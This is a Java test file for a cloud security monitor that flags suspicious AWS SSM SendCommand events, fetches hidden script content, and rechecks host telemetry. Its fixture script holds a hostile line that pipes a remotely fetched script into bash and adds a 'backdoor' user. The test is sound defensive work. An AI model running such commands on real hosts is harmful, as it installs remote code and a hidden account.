package io.runwatch.core.service;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.runwatch.core.baseline.BaselineLearner;
import io.runwatch.core.baseline.InMemoryBaselineStore;
import io.runwatch.core.detect.DetectorHit;
import io.runwatch.core.ingest.PayloadReport;
import io.runwatch.core.model.AdminCommand;
import io.runwatch.core.model.AgentStatusEvent;
import io.runwatch.core.model.Cloud;
import io.runwatch.core.model.HostExecution;
import io.runwatch.core.model.Outcome;
import io.runwatch.core.model.TelemetryFormat;
import io.runwatch.core.policy.Policy;
import io.runwatch.core.port.AgentStatusSource;
import io.runwatch.core.port.CommandContentSource.Availability;
import io.runwatch.core.port.FakeCommandContentSource;
import io.runwatch.core.port.HostTelemetrySource;
import io.runwatch.core.port.InMemoryEventJournal;
import io.runwatch.core.port.InMemoryFindingStore;
import io.runwatch.core.port.InMemoryHostTelemetrySource;
import io.runwatch.core.port.InMemoryPendingCorrelationStore;
import io.runwatch.core.port.RecordingNotifier;
import io.runwatch.core.triage.Finding;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * The functions' event-at-a-time detection on the real EventBridge SendCommand event (three
 * instances, parameters hidden by CloudTrail), with every port in memory.
 */
class EventDetectionTest {
  static final String COMMAND_ID = "f49a1fe5-d12b-4ac0-98bc-0e4bd83d70c0";
  static final List<String> VMS =
      List.of("i-006e4c07b5fba8ad2", "i-01bf673280e708b0d", "i-020001cca1a2f2628");
  static final Instant SENT = Instant.parse("2025-02-19T16:32:39Z");
  static final String SCOPE = "AWS|111122223333";

  final InMemoryBaselineStore baselines = new InMemoryBaselineStore();
  final InMemoryFindingStore findings = new InMemoryFindingStore();
  final RecordingNotifier notifier = new RecordingNotifier();
  final InMemoryPendingCorrelationStore pending = new InMemoryPendingCorrelationStore();
  final InMemoryEventJournal journal = new InMemoryEventJournal();
  final FakeCommandContentSource content =
      new FakeCommandContentSource()
          .script(
              COMMAND_ID,
              "AWS-RunShellScript",
              "curl -s http://203.0.113.7/x.sh | bash\nuseradd -m backdoor");
  final InMemoryHostTelemetrySource telemetry = new InMemoryHostTelemetrySource();
  final MutableClock clock = new MutableClock(SENT.plusSeconds(20));

  EventDetection detection() {
    return detection(telemetry);
  }

  EventDetection detection(HostTelemetrySource source) {
    return new EventDetection(
        new EventDetection.Ports(
            baselines, findings, notifier, pending, journal, content, source, host -> null),
        Policy.defaults(),
        FunctionSettings.DEFAULTS,
        clock,
        d -> {});
  }

  @Test
  void firstLookFetchesTheHiddenScriptNotifiesWaitsForTelemetryAndLearns() {
    DetectionOutcome out = detection().handle("eventbridge", sendCommand());

    assertThat(out.commands()).isEqualTo(1);
    assertThat(content.asked()).containsExactly(COMMAND_ID);
    assertThat(out.findings()).isPositive();
    assertThat(notifier.published()).hasSize(out.notified()).isNotEmpty();
    Finding f = notifier.published().get(0);
    assertThat(f.command().content()).contains("useradd -m backdoor");
    assertThat(detectors(f))
        .contains("RW-SUSPICIOUS-CONTENT")
        .doesNotContain("RW-NOT-MATERIALIZED");
    assertThat(findings.get(f.id()).orElseThrow().notifiedAt()).isNotNull();
    // The window is open: telemetry is not asked yet (it lags), the outcome waits for a re-check.
    assertThat(out.pendingAdded()).isEqualTo(1);
    assertThat(pending.byCommandId(COMMAND_ID)).hasSize(1);
    assertThat(telemetry.queries()).isEmpty();
    assertThat(baselines.load(SCOPE).orElseThrow().baseline().commands()).isEqualTo(1);
    assertThat(journal.since(SCOPE, SENT.minusSeconds(1), 10)).hasSize(1);
  }

  @Test
  void aRedeliveredCopyDoesNothing() {
    EventDetection d = detection();
    d.handle("eventbridge", sendCommand());
    int published = notifier.published().size();

    DetectionOutcome again = d.handle("eventbridge", sendCommand());

    assertThat(again.duplicate()).isTrue();
    assertThat(again.findings()).isZero();
    assertThat(notifier.published()).hasSize(published);
    assertThat(baselines.load(SCOPE).orElseThrow().baseline().commands()).isEqualTo(1);
  }

  @Test
  void aFailedNotificationFailsTheInvocationAndTheRetryNotifiesOnceWithTheSameFinding() {
    notifier.failNext(FunctionSettings.DEFAULTS.notifyAttempts());
    EventDetection d = detection();

    assertThatThrownBy(() -> d.handle("eventbridge", sendCommand()))
        .isInstanceOf(NotificationFailedException.class)
        .hasMessageContaining("is stored");
    assertThat(findings.all())
        .isNotEmpty()
        .allSatisfy((id, s) -> assertThat(s.notifiedAt()).isNull());
    assertThat(journal.contains(SCOPE, SENT, "x")).isFalse();
    assertThat(baselines.load(SCOPE)).as("not learned before the finding was out").isEmpty();

    DetectionOutcome retry = d.handle("eventbridge", sendCommand());

    assertThat(retry.duplicate()).isFalse();
    assertThat(notifier.published()).hasSize(findings.all().size());
    assertThat(notifier.published().stream().map(Finding::id))
        .containsExactlyInAnyOrderElementsOf(findings.all().keySet());
  }

  @Test
  void retriesATransientNotificationFailureWithinTheInvocation() {
    notifier.failNext(FunctionSettings.DEFAULTS.notifyAttempts() - 1);

    DetectionOutcome out = detection().handle("eventbridge", sendCommand());

    assertThat(out.notified()).isEqualTo(notifier.published().size()).isPositive();
  }

  @Test
  void theRecheckAfterTheDeadlineSettlesSilenceAsNotMaterialized() {
    EventDetection d = detection();
    d.handle("eventbridge", sendCommand());
    int before = notifier.published().size();
    // The hosts report telemetry (so they are not blind), but nothing ran.
    for (String vm : VMS) {
      telemetry.heard(vm, SENT.plusSeconds(90));
    }
    clock.set(SENT.plus(Duration.ofHours(4)));

    DetectionOutcome out = d.recheckPending(10);

    assertThat(out.rechecked()).isEqualTo(1);
    assertThat(out.settled()).isEqualTo(1);
    assertThat(pending.oldest(10)).isEmpty();
    List<Finding> fresh = notifier.published().subList(before, notifier.published().size());
    assertThat(fresh).hasSize(1);
    assertThat(detectors(fresh.get(0))).contains("RW-NOT-MATERIALIZED", "RW-SUSPICIOUS-CONTENT");
    assertThat(baselines.load(SCOPE).orElseThrow().baseline().commands())
        .as("a re-check does not learn again")
        .isEqualTo(1);
  }

  @Test
  void aRecheckBeforeTheDeadlineWithNothingNewKeepsWaiting() {
    EventDetection d = detection();
    d.handle("eventbridge", sendCommand());
    clock.set(SENT.plus(Duration.ofMinutes(10)));

    DetectionOutcome out = d.recheckPending(10);

    assertThat(out.settled()).isZero();
    assertThat(pending.oldest(10))
        .singleElement()
        .satisfies(p -> assertThat(p.attempts()).isEqualTo(1));
  }

  @Test
  void confirmedExecutionsSettleWithoutANewNotification() {
    EventDetection d = detection();
    d.handle("eventbridge", sendCommand());
    int before = notifier.published().size();
    for (String vm : VMS) {
      telemetry.add(vm, scriptRun(vm, SENT.plusSeconds(3)));
    }
    clock.set(SENT.plus(Duration.ofMinutes(3)));

    DetectionOutcome out = d.recheckPending(10);

    assertThat(out.settled()).isEqualTo(1);
    assertThat(out.alreadyNotified()).isEqualTo(out.findings()).isPositive();
    assertThat(notifier.published()).hasSize(before);
  }

  @Test
  void theAgentsStatusEventTriggersTheRecheckOfItsCommand() {
    EventDetection d = detection();
    d.handle("eventbridge", sendCommand());
    for (String vm : VMS) {
      telemetry.add(vm, scriptRun(vm, SENT.plusSeconds(3)));
    }
    clock.set(SENT.plus(Duration.ofMinutes(3)));

    DetectionOutcome out = d.handle("eventbridge", statusEventFor(COMMAND_ID));

    assertThat(out.statuses()).isEqualTo(1);
    assertThat(out.rechecked()).isEqualTo(1);
    assertThat(out.settled()).isEqualTo(1);
  }

  @Test
  void deniedContentIsMarkedUnknownInTheFindingNotGuessed() {
    content.unavailable(COMMAND_ID, Availability.DENIED, "AccessDeniedException from ListCommands");
    learnTwoWeeksOfSomeoneElse();

    DetectionOutcome out = detection().handle("eventbridge", sendCommand());

    assertThat(out.contentUnknown()).isEqualTo(1);
    assertThat(out.findings()).as("first-seen still fires without content").isPositive();
    assertThat(findings.all().values())
        .allSatisfy(
            stored ->
                assertThat(stored.json())
                    .contains(EventDetection.CONTENT_QUESTION, "Unknown", "DENIED")
                    .contains("AccessDeniedException")
                    .doesNotContain("useradd"));
  }

  @Test
  void theRecheckAsksEachTargetsTelemetryWithinTheCommandsWindow() {
    EventDetection d = detection();
    d.handle("eventbridge", sendCommand());
    clock.set(SENT.plus(Duration.ofMinutes(10)));

    d.recheckPending(10);

    assertThat(telemetry.queries())
        .hasSize(3)
        .allSatisfy(
            q -> {
              assertThat(q).startsWith("i-");
              Instant from = Instant.parse(q.substring(q.indexOf(' ') + 1, q.indexOf("..")));
              Instant to = Instant.parse(q.substring(q.indexOf("..") + 2));
              assertThat(from).isBefore(SENT).isAfter(SENT.minus(Duration.ofMinutes(10)));
              assertThat(to).as("never past now").isEqualTo(SENT.plus(Duration.ofMinutes(10)));
            });
  }

  @Test
  void aFailingTelemetryQueryIsUnknownNotBlindAndKeepsWaiting() {
    detection().handle("eventbridge", sendCommand());
    HostTelemetrySource broken =
        (vm, from, to, out) -> {
          throw new IllegalStateException("Logs Insights throttled");
        };
    clock.set(SENT.plus(Duration.ofMinutes(10)));

    DetectionOutcome out = detection(broken).recheckPending(10);

    assertThat(out.telemetryFailures()).isEqualTo(1);
    assertThat(out.settled()).isZero();
    assertThat(pending.oldest(10))
        .singleElement()
        .satisfies(p -> assertThat(p.attempts()).isEqualTo(1));
    assertThat(notifier.published())
        .allSatisfy(f -> assertThat(detectors(f)).doesNotContain("RW-NOT-MATERIALIZED"));
  }

  @Test
  void aPoisonPayloadIsReportedAndTouchesNothing() {
    DetectionOutcome out =
        detection().handle("eventbridge", "{\"detail\": {".getBytes(StandardCharsets.UTF_8));

    assertThat(out.poison()).isTrue();
    assertThat(out.errors()).isNotEmpty();
    assertThat(findings.all()).isEmpty();
    assertThat(journal.since(SCOPE, Instant.EPOCH, 10)).isEmpty();
  }

  @Test
  void theAgentServiceNamesTheVmsOfATagTargetedCommandSoTheirTelemetryIsAsked() {
    byte[] tagged = resource("/events/aws/sendcommand-instance-role-tag-targets.json");
    String taggedId = "a1b2c3d4-0000-4000-8000-000000000040";
    AgentStatusSource agent =
        c ->
            List.of("i-0aaaaaaaaaaaaaaa1", "i-0aaaaaaaaaaaaaaa2").stream()
                .map(
                    vm ->
                        new AgentStatusEvent(
                            Cloud.AWS,
                            AgentStatusEvent.StatusKind.COMMAND_INVOCATION,
                            c.account(),
                            c.region(),
                            "InProgress",
                            c.commandId(),
                            null,
                            vm,
                            c.document(),
                            null,
                            null,
                            c.time().plusSeconds(2),
                            c.time().plusSeconds(1),
                            null,
                            Map.of(),
                            null,
                            null,
                            null,
                            null))
                .toList();
    EventDetection d =
        new EventDetection(
            new EventDetection.Ports(
                baselines,
                findings,
                notifier,
                pending,
                journal,
                content,
                telemetry,
                host -> null,
                agent),
            Policy.defaults(),
            FunctionSettings.DEFAULTS,
            clock,
            x -> {});

    DetectionOutcome out = d.handle("cloudtrail", tagged);
    assertThat(out.commands()).isEqualTo(1);
    assertThat(out.pendingAdded()).as("no VM is named yet: it waits").isEqualTo(1);
    clock.set(SENT.plus(Duration.ofMinutes(10)));

    d.recheckPending(10);

    assertThat(telemetry.queries())
        .extracting(q -> q.substring(0, q.indexOf(' ')))
        .containsExactlyInAnyOrder("i-0aaaaaaaaaaaaaaa1", "i-0aaaaaaaaaaaaaaa2");
    assertThat(content.asked()).contains(taggedId);
  }

  @Test
  void learningKeepsWhatThePolicysHistoryWindowCovers() {
    AdminCommand old =
        PayloadReport.read("cloudtrail", resource("/events/aws/sendcommand-denied-iam-user.json"))
            .commands()
            .get(0)
            .toBuilder()
            .account("111122223333")
            .outcome(Outcome.SUCCEEDED)
            .time(SENT.minus(Duration.ofDays(60)))
            .eventId("two-months-ago")
            .build();
    new BaselineLearner(baselines).learn(List.of(old));
    assertThat(baselines.load(SCOPE).orElseThrow().baseline().principals())
        .containsKey(old.principal().id());

    Policy ninetyDays =
        io.runwatch.core.policy.PolicyLoader.parse(
            "version: 1\nbaselineHistory: P90D\n", "ninety-days.yaml");
    new EventDetection(
            new EventDetection.Ports(
                baselines, findings, notifier, pending, journal, content, telemetry, h -> null),
            ninetyDays,
            FunctionSettings.DEFAULTS,
            clock,
            d -> {})
        .handle("eventbridge", sendCommand());

    assertThat(baselines.load(SCOPE).orElseThrow().baseline().principals())
        .as("60 days old, inside the policy's 90 (the default 30 would have forgotten it)")
        .containsKey(old.principal().id())
        .hasSize(2);
  }

  // ---- helpers

  /** A history in which another principal ran commands daily: this one is then first-seen. */
  void learnTwoWeeksOfSomeoneElse() {
    AdminCommand other =
        PayloadReport.read("cloudtrail", resource("/events/aws/sendcommand-denied-iam-user.json"))
            .commands()
            .get(0);
    List<AdminCommand> history = new java.util.ArrayList<>();
    for (int day = 14; day >= 1; day--) {
      history.add(
          other.toBuilder()
              .account("111122223333")
              .outcome(Outcome.SUCCEEDED)
              .errorCode(null)
              .time(SENT.minus(Duration.ofDays(day)))
              .eventId("history-" + day)
              .build());
    }
    new BaselineLearner(baselines).learn(history);
  }

  static List<String> detectors(Finding f) {
    return f.hits().stream().map(DetectorHit::detectorId).toList();
  }

  static HostExecution scriptRun(String vm, Instant t) {
    String script =
        "/var/lib/amazon/ssm/"
            + vm
            + "/document/orchestration/"
            + COMMAND_ID
            + "/awsrunShellScript/0.awsrunShellScript/_script.sh";
    return new HostExecution(
        vm,
        t,
        4242L,
        4241L,
        "/usr/bin/sh",
        "sh -c " + script,
        "root",
        "/usr/bin/ssm-document-worker",
        "/usr/bin/ssm-document-worker " + COMMAND_ID + "." + vm,
        "/var/lib/amazon/ssm/" + vm + "/document/orchestration/" + COMMAND_ID,
        TelemetryFormat.AUDITD,
        null,
        null);
  }

  static byte[] sendCommand() {
    return resource("/events/aws/eventbridge-api-call-sendcommand.json");
  }

  /** The documented invocation status event, re-pointed at this command and its first VM. */
  static byte[] statusEventFor(String commandId) {
    String doc =
        new String(
            resource("/events/aws/eventbridge-command-invocation-status-change-awsdocs.json"),
            StandardCharsets.UTF_8);
    String original = doc.replaceAll("(?s).*\"command-id\"\\s*:\\s*\"([^\"]+)\".*", "$1");
    String instance = doc.replaceAll("(?s).*\"instance-id\"\\s*:\\s*\"([^\"]+)\".*", "$1");
    return doc.replace(original, commandId)
        .replace(instance, VMS.get(0))
        .replace("123456789012", "111122223333")
        .replace("2016-07-10T21:51:32Z", SENT.plusSeconds(60).toString())
        .getBytes(StandardCharsets.UTF_8);
  }

  static byte[] resource(String name) {
    try (InputStream in = EventDetectionTest.class.getResourceAsStream(name)) {
      return in.readAllBytes();
    } catch (IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }
}
